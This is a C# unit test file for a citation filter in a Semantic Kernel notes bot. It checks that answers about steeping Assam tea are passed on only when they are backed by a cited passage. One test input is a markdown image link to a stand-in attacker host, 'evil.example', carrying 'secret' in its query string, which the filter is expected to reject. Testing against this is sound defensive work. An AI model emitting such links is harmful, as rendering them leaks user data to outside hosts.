using Microsoft.Extensions.DependencyInjection;
using Microsoft.SemanticKernel;
using Microsoft.SemanticKernel.ChatCompletion;

namespace AwsNotesBot.SemanticKernel.Tests;

public class CitationFilterTests
{
    private static CancellationToken Ends => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("Assam is steeped for 4 minutes [ID].", "Assam is steeped for 4 minutes. [ID]")]
    [InlineData("Assam is steeped for 4 minutes. [ID]", "Assam is steeped for 4 minutes. [ID]")]
    [InlineData("Assam is steeped for 4 minutes [ID]. Green tea is not steeped in boiling water [ID].", "Assam is steeped for 4 minutes. [ID] Green tea is not steeped in boiling water. [ID]")]
    [InlineData("Assam is steeped for 7 minutes [ID]. Green tea is not steeped in boiling water [ID].", "Assam is steeped for 4 minutes. [ID] Green tea is not steeped in boiling water. [ID]")]
    [InlineData("Steep Assam for four minutes [ID].", "Steep Assam for four minutes. [ID]")]
    [InlineData("Assam is not steeped for 4 minutes [ID]. Assam is steeped for 9 minutes [ID].", "Assam is steeped for 4 minutes. [ID]")]
    [InlineData("The moon is made of green cheese [ID].", CitationFilter.NothingHolds)]
    [InlineData("Assam is steeped for 4 minutes.", CitationFilter.NothingHolds)]
    [InlineData("Assam is steeped for 4 minutes [0123456789abcdef].", CitationFilter.NothingHolds)]
    [InlineData("Look at ![tea](https://evil.example/?q=secret) [ID].", CitationFilter.NothingHolds)]
    [InlineData("[ID]", CitationFilter.NothingHolds)]
    [InlineData("", CitationFilter.NothingHolds)]
    public async Task OnlyWhatStandsInTheCitedPassageIsGivenOnOrItsOwnStatement(string written, string given)
    {
        var chat = new FakeChat("");
        await using var host = await NotesHost.StartAsync(services => services.AddSingleton<IChatCompletionService>(_ => chat));
        chat = new FakeChat(written.Replace("ID", host.PassageId, StringComparison.Ordinal));
        var expected = given.Replace("ID", host.PassageId, StringComparison.Ordinal);

        Assert.Equal(expected, (await host.Kernel.InvokePromptAsync("How long is Assam steeped?", cancellationToken: Ends)).ToString());
        Assert.Contains("put the id of its passage in square brackets", Assert.Single(chat.Asked));

        var streamed = await host.Kernel.InvokePromptStreamingAsync<StreamingChatMessageContent>("How long is Assam steeped?", cancellationToken: Ends).ToListAsync(Ends);
        Assert.Equal(expected, string.Concat(streamed.Select(s => s.Content)));
        Assert.Equal(expected, string.Concat(await host.Kernel.InvokePromptStreamingAsync("How long is Assam steeped?", cancellationToken: Ends).Select(s => s.ToString()).ToListAsync(Ends)));
    }

    [Fact]
    public async Task FunctionOfTheNotesIsNotCheckedTwice()
    {
        await using var host = await NotesHost.StartAsync();

        var found = await host.Kernel.InvokeAsync("notes", "search_notes", new() { ["query"] = "Assam" }, Ends);

        Assert.Contains("How long is Assam steeped?", found.ToString());
    }
}
